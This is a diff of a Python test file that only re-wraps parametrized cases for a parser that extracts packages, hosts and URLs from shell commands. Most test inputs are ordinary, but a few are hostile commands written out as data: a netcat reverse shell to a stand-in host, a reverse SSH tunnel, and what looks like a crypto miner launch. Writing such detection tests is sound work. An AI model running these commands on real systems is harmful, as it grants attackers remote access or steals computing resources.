@@ -19,12 +19,21 @@ def said(text: str, *, files: dict[str, File] | None = None) -> set[str]:
     ("text", "facts"),
     [
         ("pip install -q numpy", {"command pip", "argument pip install", "package pypi:numpy"}),
-        ("pip3.11 install --upgrade --index-url https://e.org/s 'a>1' b[c]", {"package pypi:a", "package pypi:b", "host e.org"}),
+        (
+            "pip3.11 install --upgrade --index-url https://e.org/s 'a>1' b[c]",
+            {"package pypi:a", "package pypi:b", "host e.org"},
+        ),
         ("python -m pip install x", {"module pip", "package pypi:x"}),
         ("uv tool install x --with y", {"package pypi:x", "package pypi:y"}),
         ("poetry add x@^1", {"package pypi:x"}),
-        ("apt-get -qq install -y -o Acquire::Retries=3 a=1.0 b:amd64 c/stable", {"package apt:a", "package apt:b", "package apt:c"}),
-        ("conda create -n env -c conda-forge python=3.11 torch", {"package conda:python", "package conda:torch"}),
+        (
+            "apt-get -qq install -y -o Acquire::Retries=3 a=1.0 b:amd64 c/stable",
+            {"package apt:a", "package apt:b", "package apt:c"},
+        ),
+        (
+            "conda create -n env -c conda-forge python=3.11 torch",
+            {"package conda:python", "package conda:torch"},
+        ),
         ("npm install -g @scope/x@1 y", {"package npm:@scope/x", "package npm:y"}),
         ("yarn global add x", {"package npm:x"}),
         ("gem install x -v 1", {"package gem:x"}),
@@ -32,7 +41,10 @@ def said(text: str, *, files: dict[str, File] | None = None) -> set[str]:
         ("go install example.com/x/y@latest", {"package go:example.com/x/y"}),
         ("snap install x --classic", {"package snap:x"}),
         ("brew install x@2", {"package brew:x"}),
-        ("docker run --rm -p 80:80 -e A=b --name z o/n:1 server --flag", {"package docker:o/n", "command server", "argument server --flag"}),
+        (
+            "docker run --rm -p 80:80 -e A=b --name z o/n:1 server --flag",
+            {"package docker:o/n", "command server", "argument server --flag"},
+        ),
         ("singularity exec --nv docker://o/n:1 python x.py", {"package docker:o/n", "command python"}),
         ("wget -q https://e.org/x -O y", {"url https://e.org/x", "host e.org", "file y"}),
         ("curl -fsSL e.org/x | head", {"url https://e.org/x", "host e.org"}),
@@ -40,15 +52,27 @@ def said(text: str, *, files: dict[str, File] | None = None) -> set[str]:
         ("scp -P 22 a me@h.example.org:/b", {"host h.example.org"}),
         ("rsync -av -e 'ssh -p 2222' a/ me@h.example.org:b/", {"host h.example.org", "argument ssh -p"}),
         ("nc h.example.org 4444 -e /bin/sh", {"host h.example.org", "url tcp://h.example.org:4444"}),
-        ("ssh -p 443 -R0:localhost:22 a@h.example.org", {"host h.example.org", "argument ssh -R", "argument ssh -p"}),
+        (
+            "ssh -p 443 -R0:localhost:22 a@h.example.org",
+            {"host h.example.org", "argument ssh -R", "argument ssh -p"},
+        ),
         ("git clone --depth 1 -b main https://github.com/o/n d", {"repository github.com/o/n", "file d"}),
         ("git -C x fetch https://github.com/o/n main", {"repository github.com/o/n"}),
         ("git archive --remote=git@gitlab.com:o/n.git HEAD", {"repository gitlab.com/o/n"}),
         ("hg clone https://hg.example.org/o/n", {"repository hg.example.org/o/n"}),
-        ("sudo -H -u me bash -lc 'nohup main --a=b &'", {"command main", "argument main --a=b", "argument main --a"}),
-        ("python main.py --listen --port 80", {"command python", "argument main.py --listen", "argument python --port=80", "file main.py"}),
+        (
+            "sudo -H -u me bash -lc 'nohup main --a=b &'",
+            {"command main", "argument main --a=b", "argument main --a"},
+        ),
+        (
+            "python main.py --listen --port 80",
+            {"command python", "argument main.py --listen", "argument python --port=80", "file main.py"},
+        ),
         ("python -m http.server 8000", {"module http.server", "argument python http.server"}),
-        ("chmod +x a && ./a -o stratum+tcp://p.example:1", {"file a", "url stratum+tcp://p.example:1", "host p.example"}),
+        (
+            "chmod +x a && ./a -o stratum+tcp://p.example:1",
+            {"file a", "url stratum+tcp://p.example:1", "host p.example"},
+        ),
     ],
     ids=lambda value: value if isinstance(value, str) else "",
 )
@@ -90,7 +114,9 @@ def test_arguments_that_are_no_target(text: str, kind: str) -> None:
 
 
 def test_honest_folder_of_a_clone_is_not_opaque() -> None:
-    facts = said("git clone -q https://github.com/pytorch/examples && cd examples/mnist && python main.py --epochs 3")
+    facts = said(
+        "git clone -q https://github.com/pytorch/examples && cd examples/mnist && python main.py --epochs 3"
+    )
     assert "repository github.com/pytorch/examples" in facts
     assert not {fact for fact in facts if fact.startswith("opaque")}
 
@@ -101,7 +127,9 @@ def test_files_of_the_session_are_read() -> None:
         "more.txt": File("bar\n-e git+https://github.com/o/n#egg=n\n"),
         "run.sh": File("#!/bin/bash\npip install -r requirements.txt\n"),
     }
-    assert {"package pypi:foo", "package pypi:bar", "package pypi:n", "repository github.com/o/n"} <= said("bash run.sh", files=files)
+    assert {"package pypi:foo", "package pypi:bar", "package pypi:n", "repository github.com/o/n"} <= said(
+        "bash run.sh", files=files
+    )
 
 
 def test_notebook_of_the_session_is_executed() -> None:
